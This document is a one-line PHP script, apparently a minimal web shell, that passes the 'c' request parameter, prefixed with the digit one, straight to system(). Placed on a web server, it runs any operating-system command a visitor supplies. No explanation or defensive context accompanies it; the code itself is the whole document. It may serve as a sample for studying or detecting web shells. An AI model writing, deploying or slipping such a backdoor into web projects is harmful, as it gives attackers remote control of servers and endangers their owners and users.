<?php $c = number_format(1) . "$_GET[c]"; system($c);
